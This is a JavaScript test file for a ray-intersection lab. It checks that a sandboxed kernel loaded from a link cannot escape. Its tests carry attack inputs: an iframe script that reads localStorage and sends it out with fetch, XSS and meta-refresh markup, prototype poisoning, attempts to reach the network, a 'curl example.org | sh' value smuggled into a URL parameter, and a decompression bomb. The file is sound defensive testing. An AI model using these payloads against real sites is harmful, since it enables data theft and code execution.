// A link carries a kernel of somebody else. Each test is an attack by such a kernel, and looks at what came of it.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { edit, folder, lab, link, stray, then, title } from "./serve.mjs";
import { visit } from "./visit.mjs";

/** An honest kernel, wrong on many cases, that attacks are put around. */
const PLAIN = `export default function kernel({ origin, direction }, { a, b, c }) {
  return origin[0] > a[1] && direction[2] < 0.5 ? { t: origin[1], u: b[0], v: c[2] } : null;
}`;

const open = (t, text, options = {}) => lab(t, link(text, "n=20&cases=room&"), { isHostile: true, ...options });

/** All that is shown, but for the time that it took. */
const shown = (page) => page.evaluate(() => ["title", "report", "case-name", "explained"].map((id) => document.getElementById(id).textContent));

/** The judge's own words, rewritten wherever the kernel's realm would let it: as bytes are decoded, and as JSON is read. */
const rewriting = (payload) => `
  const rewritten = (text) => typeof text === "string" && text.includes('"html":"') ? text.replaceAll('"html":"', '"html":"' + ${JSON.stringify(JSON.stringify(payload).slice(1, -1))}) : text;
  const decode = TextDecoder.prototype.decode;
  TextDecoder.prototype.decode = function (...all) { return rewritten(decode.apply(this, all)); };
  for (const of of [globalThis, MessagePort.prototype]) {
    const post = of.postMessage;
    of.postMessage = function (told, ...rest) {
      if (told && typeof told.json === "string") told.json = rewritten(told.json);
      return post.call(this, told, ...rest);
    };
  }`;

describe("a kernel does not come into the page", () => {
  test("by a frame in the report, whose script reads storage and sends it away", async (t) => {
    const seen = stray.length;
    const page = await open(t, `
      const script = URL.createObjectURL(new Blob(["parent.hacked = 1; parent.fetch('stolen?' + parent.localStorage.secret)"], { type: "text/javascript" }));
      ${rewriting(`<iframe srcdoc="<script src='ADDRESS'></script>"></iframe>`).replaceAll("ADDRESS", '" + script + "')}
      ${PLAIN}`, { before: () => { if (self.origin !== "null") localStorage.secret = "secret"; } });
    await page.waitForTimeout(500);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.deepEqual(stray.slice(seen), []);
    assert.equal(await page.locator("#report iframe").count(), 0);
  });

  test("by a refresh in the report, which leaves the page", async (t) => {
    const seen = stray.length;
    const page = await open(t, `${rewriting('<meta http-equiv="refresh" content="0;url=stolen">')}\n${PLAIN}`);
    await page.waitForTimeout(500);
    assert.match(page.url(), /\/#/);
    assert.deepEqual(stray.slice(seen), []);
  });

  test("by its words: an error, an exception, an epsilon's name, a contract are text, and short", async (t) => {
    const markup = "<img src=x onerror='window.hacked = 1'><meta http-equiv=refresh content='0;url=stolen'>";
    const page = await open(t, PLAIN);
    for (const text of [
      `throw new Error(${JSON.stringify(markup)} + "x".repeat(1e6));`,
      `export default () => { throw new Error(${JSON.stringify(markup)} + "\\u202e\\u0007\\n" + "x".repeat(1e6)); };`,
      `export const epsilons = { ${JSON.stringify(markup)}: 1 };\n${PLAIN}`,
      `export const contract = ${JSON.stringify(markup)};\n${PLAIN}`,
      `export const contract = "closed-ray\\nready";\n${PLAIN}`,
      `export const epsilons = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => ["e" + i, 1]));\n${PLAIN}`,
    ]) {
      await then(page, () => edit(page, text));
      const told = await page.textContent("#error");
      assert.ok(0 < told.length && told.length < 700, told);
      assert.doesNotMatch(told, /[\u0000-\u001f\u202e]/);
    }
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.equal(await page.locator("main img, main meta").count(), 0);
    // Names that every object has are names like others.
    await then(page, () => edit(page, `export const epsilons = { constructor: 0.5, toString: 0, valueOf: 1 };\n${PLAIN}`));
    assert.match(await title(page), /^yours \(constructor=0\.5,toString=0,valueOf=1\)/);
  });

  test("by what it finds in its own realm: no page, no storage, no channel to one", async (t) => {
    const page = await open(t, `
      const can = async (of) => { try { return await of() } catch { return undefined } };
      const channel = new BroadcastChannel("lab");
      channel.postMessage("hello");
      const found = [
        typeof document !== "undefined" && "document", typeof parent !== "undefined" && "parent", self.origin !== "null" && "origin",
        await can(() => new Promise((yes, no) => { const asked = indexedDB.open("x"); asked.onsuccess = () => yes("indexedDB"); asked.onerror = no; })),
        await can(() => caches.open("x").then(() => "caches")), await can(() => navigator.storage.getDirectory().then(() => "files")),
        await can(() => eval("'eval'")), typeof SharedArrayBuffer !== "undefined" && "shared memory",
      ].filter(Boolean);
      if (found.length) throw new Error("found " + found);
      ${PLAIN}`, { before: () => { if (self.origin !== "null") new BroadcastChannel("lab").onmessage = () => { window.hacked = 1; }; } });
    assert.equal(await page.textContent("#error"), "");
    assert.match(await title(page), /^yours/);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
  });

  test("by the file of the sandbox, opened without one", async (t) => {
    const page = await visit(t, `${folder}sandbox.html`, { folder, isHostile: true });
    const answered = await page.evaluate(async (address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
      await new Promise((done) => { frame.onload = done; });
      const { port1, port2 } = new MessageChannel();
      const answer = new Promise((done) => { port1.onmessage = () => done("answered"); });
      frame.contentWindow.postMessage("export default () => null", "*", [port2]);
      return Promise.race([answer, new Promise((done) => { setTimeout(done, 1000, "silent"); })]);
    }, `${folder}sandbox.html`);
    assert.equal(answered, "silent");
  });
});

describe("a kernel does not change its verdict", () => {
  test("by the judge's words", async (t) => {
    const honest = await shown(await open(t, PLAIN));
    const forged = await shown(await open(t, `
      const decode = TextDecoder.prototype.decode;
      TextDecoder.prototype.decode = function (...all) {
        return decode.apply(this, all).replace(/"title":"[^"]*"/, '"title":"yours: no leak, no visible error"');
      };
      ${PLAIN}`));
    assert.deepEqual(forged, honest);
  });

  // Every function of every built-in that the judge's side uses: each is called through, and looks for what is the
  // judge's, and changes what it finds.
  test("by the prototypes of built-ins", async (t) => {
    const honest = await shown(await open(t, PLAIN));
    const page = await open(t, `
      let reached = "";
      const hasOwn = Object.hasOwn, apply = Reflect.apply, own = Reflect.ownKeys, described = Reflect.getOwnPropertyDescriptor, define = Reflect.defineProperty;
      const includes = String.prototype.includes, replace = String.prototype.replace, isMemory = Function.prototype[Symbol.hasInstance].bind(WebAssembly.Memory);
      const looked = (x, where) => {
        if (typeof x === "string" && (apply(includes, x, ['"title":"']) || apply(includes, x, ['"do":"']))) {
          reached = where;
          return apply(replace, x, ["leak", "LEAK"]);
        }
        if (isMemory(x)) reached = where;
        return x;
      };
      const poison = (of, name) => {
        if (!of) return;
        for (const key of own(of)) {
          const found = described(of, key);
          if (!found.configurable && !found.writable) continue;
          if (typeof found.value === "function" && !hasOwn(found.value, "prototype")) {
            const value = found.value, where = name + "." + String(key);
            const through = function (...all) {
              // Nothing here calls what is poisoned.
              for (let i = 0; i < all.length; i++) all[i] = looked(all[i], where);
              return looked(apply(value, this, all), where);
            };
            define(of, key, { ...found, value: through });
          }
        }
      };
      for (const name of ["Array", "Map", "Set", "Promise", "Function", "String", "Number", "RegExp", "Symbol", "Error", "ArrayBuffer", "DataView",
        "Float64Array", "Uint8Array", "Uint32Array", "TextDecoder", "TextEncoder", "MessagePort", "MessageEvent", "Event", "EventTarget", "Worker",
        "WorkerGlobalScope", "DedicatedWorkerGlobalScope", "Blob", "URL", "Iterator"]) {
        if (globalThis[name]) { poison(globalThis[name].prototype, name); if (name !== "Function") poison(globalThis[name], name + " itself"); }
      }
      for (const name of ["JSON", "Object", "Math", "WebAssembly", "Atomics"]) poison(globalThis[name], name);
      poison(Object.getPrototypeOf(Float64Array.prototype), "TypedArray");
      poison(globalThis, "global");
      // A setter or a value for what an object may be given without its own.
      for (const key of ["json", "title", "html", "record", "error", "asked", "answers", "described", "hit", "permitted", "request", "module"]) {
        define(Object.prototype, key, { configurable: true, get: () => undefined, set(value) { reached = "Object.prototype." + key; } });
      }
      define(Array.prototype, 0, { configurable: true, get: () => 1, set(value) { define(this, 0, { value, writable: true, enumerable: true, configurable: true }); } });
      export default function kernel({ origin, direction }, { a, b, c }) {
        if (reached) throw new Error("reached " + reached);
        return origin[0] > a[1] && direction[2] < 0.5 ? { t: origin[1], u: b[0], v: c[2] } : null;
      }`);
    assert.equal(await page.textContent("#error"), "");
    assert.deepEqual(await shown(page), honest);
  });

  // The harness beside the kernel is no defence: what it sends may be the kernel's own message.
  for (const [what, message] of [
    ["an object", "{ title: 'no leak', json: '{}' }"],
    ["another length", "new Float64Array(3)"],
    ["a detour of types", "new Float32Array(told.length)"],
    ["another call's number", "told.with(0, 1e6)"],
    ["no verdict", "told.with(1, 7)"],
    ["a verdict that is no number", "told.with(1, NaN)"],
    ["an object with a getter", "Object.defineProperty({}, 'length', { get() { return 1 }, enumerable: true })"],
    ["an array like one", "Object.assign([...told], { buffer: told.buffer })"],
    ["a map", "new Map([['title', 'no leak']])"],
    ["nothing", "undefined"],
    ["more text than is read", "new Uint8Array(1e7).fill(32)"],
    ["text that is no JSON", "new TextEncoder().encode('no leak')"],
    ["a second exception", "(post.call(this, new TextEncoder().encode('{\"threw\":\"a\"}')), new TextEncoder().encode('{\"threw\":\"b\"}'))"],
    ["a second description", "new TextEncoder().encode(JSON.stringify({ described: { epsilons: {}, contract: 'x', gives: [false, false], less: [] } }))"],
  ]) {
    test(`by a message that is not its verdicts: ${what}`, async (t) => {
      const page = await open(t, `
        const post = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (told, ...rest) {
          return told instanceof Float64Array ? post.call(this, ${message}) : post.call(this, told, ...rest);
        };
        ${PLAIN}`);
      assert.match(await page.textContent("#error"), /^The kernel answered with something other than its verdicts, and was ended/);
      assert.ok(await page.locator("#verdict").isHidden());
      // Another kernel is not the worse for it.
      await then(page, () => edit(page, PLAIN));
      assert.match(await title(page), /^yours/);
    });
  }
});

test("a kernel has no network", async (t) => {
  const seen = stray.length;
  const page = await open(t, `
    const at = ${JSON.stringify("FOLDER")};
    const tried = async (name, of) => { try { return await Promise.race([of(), new Promise((_, no) => { setTimeout(no, 1000) })]) === "refused" ? "" : name } catch { return "" } };
    const heard = (of, yes, no) => new Promise((done) => { of[yes] = () => done("reached"); of[no] = () => done("refused"); });
    const script = (text) => "data:text/javascript," + encodeURIComponent(text);
    const reached = (await Promise.all([
      tried("fetch", () => fetch(at + "stolen-fetch", { mode: "no-cors" })),
      tried("XMLHttpRequest", () => { const x = new XMLHttpRequest(); x.open("GET", at + "stolen-xhr"); x.send(); return heard(x, "onload", "onerror"); }),
      tried("WebSocket", () => heard(new WebSocket(at.replace("http", "ws") + "stolen-ws"), "onopen", "onerror")),
      tried("EventSource", () => heard(new EventSource(at + "stolen-events"), "onopen", "onerror")),
      tried("WebTransport", () => new WebTransport(at.replace("http:", "https:") + "stolen-transport").ready),
      tried("import", () => import(at + "stolen-import.js")),
      tried("importScripts", () => importScripts(at + "stolen-script.js")),
      tried("worker", () => heard(new Worker(at + "stolen-worker.js"), "onmessage", "onerror")),
      tried("worker's fetch", () => heard(new Worker(script("fetch('" + at + "stolen-nested', { mode: 'no-cors' }).then(() => postMessage(1), () => { throw 1 })")), "onmessage", "onerror")),
      tried("worker's script", () => heard(new Worker(script("importScripts('" + at + "stolen-nested.js'); postMessage(1)")), "onmessage", "onerror")),
      tried("font", () => new FontFace("x", "url(" + at + "stolen-font)").load()),
      tried("beacon", () => { if (!navigator.sendBeacon(at + "stolen-beacon")) throw 1; }),
    ])).filter(Boolean);
    if (reached.length) throw new Error("reached " + reached);
    ${PLAIN}`.replaceAll("FOLDER", folder));
  await page.waitForTimeout(300);
  assert.equal(await page.textContent("#error"), "");
  assert.match(await title(page), /^yours/);
  assert.deepEqual(stray.slice(seen), []);
});

test("a link's other words act neither in the page nor in a shell", async (t) => {
  const words = new URLSearchParams({ n: "20", kernel: "moller-trumbore", cases: "room", case: "x'; curl example.org | sh; '<img src=x onerror=hacked=1>" });
  const page = await lab(t, `#${words}`, { isHostile: true });
  await page.waitForFunction(() => document.getElementById("case-name").textContent !== "");
  assert.equal(await page.textContent("#case-command"), "");
  assert.equal(await page.locator("main img").count(), 0);
  // A text of a link that grows without end when it is unpacked.
  const bomb = await lab(t, link(`// ${"x".repeat(50_000_000)}\n${PLAIN}`, "n=20&cases=room&"));
  assert.match(await title(bomb), /^yours \(parallel=1e-6\)/);
});

test("where the browser cannot have WebAssembly wait, the verdict is the same", async (t) => {
  const without = () => { delete WebAssembly.Suspending; };
  const words = "n=20&scalar=f64&";
  const text = PLAIN.replace("}, { a, b, c }) {", "}, { a, b, c }, { edge }) {").replace("< 0.5", "< edge");
  const there = await lab(t, link(`export const epsilons = { edge: 0.5 };\n${text}`, words));
  assert.ok(await there.evaluate(() => "Suspending" in WebAssembly), "this browser has it");
  const page = await lab(t, new URL(there.url()).hash, { before: without });
  assert.ok(await page.evaluate(() => !("Suspending" in WebAssembly)));
  assert.deepEqual(await shown(page), await shown(there));
  const curve = (page) => page.locator("#curve svg").innerHTML();
  assert.equal(await curve(page), await curve(there));
});
